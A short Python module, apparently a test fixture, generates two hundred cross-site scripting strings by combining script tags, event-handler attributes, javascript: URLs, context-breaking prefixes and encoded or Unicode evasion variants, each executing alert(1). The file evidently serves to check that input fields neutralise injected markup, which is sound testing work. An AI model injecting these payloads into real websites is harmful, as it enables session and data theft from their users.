"""Two hundred ways to smuggle a script into a text, for every field that takes one (H33)."""

from __future__ import annotations

from itertools import islice, product

SCRIPT = "alert(1)"
TAGS = (
    "<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "<script\n>{}</script\n>", "<script/x>{}</script>", "<<script>{}//<</script>",
    "</title><script>{}</script>", "</style><script>{}</script>", "</textarea><script>{}</script>", "</script><script>{}</script>",
    "</select><script>{}</script>", "--><script>{}</script>", "]]><script>{}</script>", "<svg><script>{}</script></svg>",
    "<svg onload={}>", "<img src=x onerror={}>", "<img/src=x/onerror={}>", "<img src=x onerror='{}'>", '<img src=x onerror="{}">',
    "<body onload={}>", "<input autofocus onfocus={}>", "<details open ontoggle={}>", "<video><source onerror={}></video>",
    "<audio src=x onerror={}>", "<marquee onstart={}>", "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<iframe src=javascript:{}></iframe>", "<a href=javascript:{} autofocus>x</a>", "<object data=javascript:{}>",
    "<embed src=javascript:{}>", "<form action=javascript:{}><button autofocus>", "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href=javascript:{}//>", "<math><mtext></table><mglyph><style><img src=x onerror={}>", "<template><script>{}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>", "<link rel=stylesheet href=javascript:{}>",
)  # fmt: skip
BREAKS = (
    "{}", '"{}', "'{}", '">{}', "'>{}", '" autofocus onfocus={} x="', "{{{{{}}}}}", "{{% {} %}}", "&#60;script&#62;{}&#60;/script&#62;", "%3Cscript%3E{}%3C/script%3E",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e", "＜script＞{}＜/script＞", "java\tscript:{}", "${{{}}}", "\u202e{}", "\ufeff<script>{}</script>",
)  # fmt: skip


def payloads() -> list[str]:
    """Exactly two hundred different texts; each would call `alert` if it were taken for more than text."""
    whole = [tag.format(SCRIPT) for tag in TAGS]
    inside = [
        before.format(tag)
        for before, tag in product(('">{}', "'>{}", "x{}", "</p>{}", "{}<!--"), whole)
    ]
    bare = [each.format(SCRIPT) for each in BREAKS]
    found = list(dict.fromkeys((*whole, *bare, *inside)))
    return list(islice(found, 200))
